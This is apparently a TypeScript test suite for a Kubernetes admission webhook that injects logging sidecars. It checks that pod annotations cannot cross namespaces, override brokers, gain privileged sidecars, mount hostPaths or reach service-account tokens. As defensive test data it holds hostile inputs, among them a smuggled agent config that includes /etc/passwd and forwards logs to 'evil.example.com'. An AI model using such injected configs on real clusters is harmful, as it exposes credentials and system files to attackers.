/**
 * What a pod's annotations must never achieve: another namespace's outputs, a catalog-fixed value,
 * a privileged or root sidecar, a hostPath, a secret in annotation text, or a config directive.
 */
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { mutateChecked as mutate } from './helpers/checked.js';
import { parsePolicy } from '../webhook/core/policy.js';
import type { Pod } from '../webhook/core/pod.js';
import { basePod, withAnnotations } from './helpers/fixtures.js';

const policy = parsePolicy(readFileSync(join(import.meta.dirname, 'golden/policy.yaml'), 'utf8'), 'policy.yaml');
const v130 = { major: 1, minor: 30 };

function run(streams: string, ns = 'team-a', enforcement: 'enabled' | 'required' = 'enabled', extra: Record<string, string> = {}) {
  return mutate({ object: withAnnotations(basePod(), { 'sidelog.io/streams': streams, ...extra }), namespace: ns, policy, enforcement, kubeVersion: v130 });
}

describe('namespace boundaries', () => {
  it.each([
    ['team-b', 'es-main'],
    ['team-b', 'kafka-logs'],
    ['payments', 'stdout'],
    ['kube-system', 's3-archive'],
  ])('in %s, output %s is refused with a warning, or denied when required', (ns, output) => {
    const streams = `- {path: /var/log/app/app.log, container: web, output: ${output}}`;
    const enabled = run(streams, ns);
    expect(enabled.patch).toEqual([]);
    expect(enabled.warnings.join()).toContain(`output "${output}" is not allowed in namespace ${ns}`);
    const required = run(streams, ns, 'required');
    expect(required.allowed).toBe(false);
    expect(required.denial).toContain(`sidelog.io/streams[0].output: output "${output}" is not allowed in namespace ${ns}`);
  });

  it('fills {namespace} from the request, so a pod cannot name another namespace in its own metadata', () => {
    const pod = withAnnotations(basePod(), { 'sidelog.io/streams': '- {path: /var/log/app/app.log, container: web, output: kafka-logs}' });
    pod.metadata!.namespace = 'payments';
    const r = mutate({ object: pod, namespace: 'team-a', policy, kubeVersion: v130 });
    expect(r.configs[0]!.text).toMatch(/^\s+Topics\s+team-a$/m);
  });
});

describe('catalog-fixed values', () => {
  it.each([
    ['topic', 'team-b', 'is not allowed by output "kafka-logs"'],
    ['topic', 'team-a-evil', 'is not allowed by output "kafka-logs"'],
    ['topic', 'team-ab', 'is not allowed by output "kafka-logs"'],
    ['brokers', 'evil:9092', 'cannot be set by pods on output "kafka-logs" (settable: topic)'],
    ['tls', 'false', 'cannot be set by pods on output "kafka-logs"'],
  ])('params.%s=%s is refused', (key, value, message) => {
    const r = run(`- {path: /var/log/app/app.log, container: web, output: kafka-logs, params: {${key}: "${value}"}}`, 'team-a', 'required');
    expect(r.allowed).toBe(false);
    expect(r.denial).toContain(`sidelog.io/streams[0].params.${key}: `);
    expect(r.denial).toContain(message);
  });

  it('takes an allowed topic and nothing else from the pod', () => {
    const r = run('- {path: /var/log/app/app.log, container: web, output: kafka-logs, params: {topic: team-a.orders}}');
    expect(r.configs[0]!.text).toMatch(/^\s+Topics\s+team-a\.orders$/m);
    expect(r.configs[0]!.text).toMatch(/^\s+Brokers\s+kafka-0\.kafka:9093,kafka-1\.kafka:9093$/m);
  });

  it('does not let an output without podParams be changed at all', () => {
    const r = run('- {path: /var/log/app/app.log, container: web, output: es-main, params: {index: other}}');
    expect(r.patch).toEqual([]);
    expect(r.warnings[0]).toContain('cannot be set by pods on output "es-main" (the catalog fixes every field)');
  });
});

describe('sidecars are never privileged', () => {
  const everything = [
    '- {path: /var/log/app/a.log, container: web, output: kafka-logs, critical: true}',
    '- {path: /var/log/app/b.log, container: web}',
    '- {path: /data/w.log, container: worker, output: gcl}',
    '- {path: /data/x.log, container: worker, output: s3-archive}',
  ].join('\n');

  // sidelog's Fluentd image carries every output's plugin: the same mix works with both agents.
  it.each([
    ['fluent-bit', everything],
    ['fluentd', everything],
  ])('with %s: non-root, no escalation, no capabilities, read-only root, RuntimeDefault seccomp', (agent, streams) => {
    const r = run(streams, 'team-a', 'enabled', { 'sidelog.io/agent': agent });
    // Only the documented promise is reported: Fluent Bit's Kafka output.
    const expected = agent === 'fluent-bit' ? [/"a" is critical but fluent-bit to output "kafka-logs" \(kafka\) is only queued-in-memory/] : [];
    expect(r.warnings.length).toBe(expected.length);
    expected.forEach((re, i) => expect(r.warnings[i]).toMatch(re));
    const pod = r.mutated as Pod;
    const sidecars = (pod.spec.initContainers ?? []).filter((c) => c.name.startsWith('sidelog-'));
    expect(sidecars.length).toBeGreaterThanOrEqual(2);
    for (const c of sidecars) {
      expect(c.securityContext).toMatchObject({ runAsNonRoot: true, privileged: false, allowPrivilegeEscalation: false, readOnlyRootFilesystem: true, capabilities: { drop: ['ALL'] }, seccompProfile: { type: 'RuntimeDefault' } });
      expect(c.securityContext!.runAsUser).toBeGreaterThan(0);
      expect(c.securityContext!.capabilities!.add).toBeUndefined();
    }
  });

  it('takes a non-root uid from the pod, never root', () => {
    const pod = withAnnotations(basePod(), { 'sidelog.io/streams': '- {path: /var/log/app/b.log, container: web}' });
    pod.spec.securityContext = { ...pod.spec.securityContext, runAsUser: 0 };
    const r = mutate({ object: pod, namespace: 'team-a', policy, kubeVersion: v130 });
    const sidecar = (r.mutated as Pod).spec.initContainers!.find((c) => c.name === 'sidelog-b')!;
    expect(sidecar.securityContext!.runAsUser).toBe(policy.defaults.runAsUser);
  });

  it('never mounts a hostPath, even when the app logs to one', () => {
    const pod = withAnnotations(basePod(), { 'sidelog.io/streams': '- {path: /host/logs/app.log, container: web, output: stdout}' });
    pod.spec.volumes!.push({ name: 'host', hostPath: { path: '/var/log' } });
    pod.spec.containers[0]!.volumeMounts!.push({ name: 'host', mountPath: '/host/logs' });
    const r = mutate({ object: pod, namespace: 'team-a', policy, kubeVersion: v130 });
    expect(r.patch).toEqual([]);
    expect(r.warnings[0]).toContain('hostPath volume ("host")');
  });

  it('never shares the service-account token or a secret volume with a sidecar', () => {
    const r = run('- {path: /var/run/secrets/kubernetes.io/serviceaccount/token, container: web}');
    expect(r.patch).toEqual([]);
    expect(r.warnings[0]).toContain('must not be under /var/run/secrets');
  });
});

describe('credentials', () => {
  it('reach the sidecar as secretKeyRef env vars and appear in the config only as references', () => {
    const r = run('- {path: /var/log/app/a.log, container: web, output: es-main}\n- {path: /var/log/app/k.log, container: web, output: kafka-logs}');
    const agent = (r.mutated as Pod).spec.initContainers!.find((c) => c.name === 'sidelog-agent')!;
    expect(agent.env).toEqual(expect.arrayContaining([
      { name: 'SIDELOG_ES_MAIN_PASSWORD', valueFrom: { secretKeyRef: { name: 'es-creds', key: 'password' } } },
      { name: 'SIDELOG_KAFKA_LOGS_PASSWORD', valueFrom: { secretKeyRef: { name: 'kafka-creds', key: 'password' } } },
    ]));
    expect(r.configs[0]!.text).toContain('${SIDELOG_ES_MAIN_PASSWORD}');
    for (const v of Object.values((r.mutated as Pod).metadata!.annotations!)) expect(v).not.toMatch(/es-creds|kafka-creds/);
  });

  it('drops only the second of two AWS outputs with different Secrets (one AWS_ACCESS_KEY_ID per container), naming it', () => {
    const local = parsePolicy(`${readFileSync(join(import.meta.dirname, 'golden/policy.yaml'), 'utf8')}\n`.replace('cloudwatch:  {type: cloudwatch, region: us-east-1,', 'cloudwatch:  {type: cloudwatch, credentialsSecret: other-aws, region: us-east-1,'));
    const r = mutate({ object: withAnnotations(basePod(), { 'sidelog.io/streams': '- {path: /var/log/app/a.log, container: web, output: s3-archive}\n- {path: /var/log/app/b.log, container: web, output: cloudwatch}' }), namespace: 'team-a', policy: local, kubeVersion: v130 });
    expect(r.injection?.streams.map((s) => `${s.name}:${s.output}`)).toEqual(['a:s3-archive']);
    expect(r.warnings).toHaveLength(1);
    expect(r.warnings[0]).toMatch(/^sidelog: sidelog\.io\/streams\[1\]\.output: "cloudwatch" needs AWS_ACCESS_KEY_ID and AWS_SECRET_ACCESS_KEY from another Secret.*this stream is not injected$/);
  });
});

describe('sidelog annotations set by the pod itself', () => {
  it('replaces a pod-supplied agent config with the generated one', () => {
    const r = run('- {path: /var/log/app/a.log, container: web, output: stdout}', 'team-a', 'enabled', { 'sidelog.io/agent-config': '@INCLUDE /etc/passwd\n[OUTPUT]\n    Name forward\n    Match *\n    Host evil.example.com' });
    const text = (r.mutated as Pod).metadata!.annotations!['sidelog.io/agent-config']!;
    expect(text).not.toContain('evil');
    expect(text).toBe(r.configs[0]!.text);
  });
});
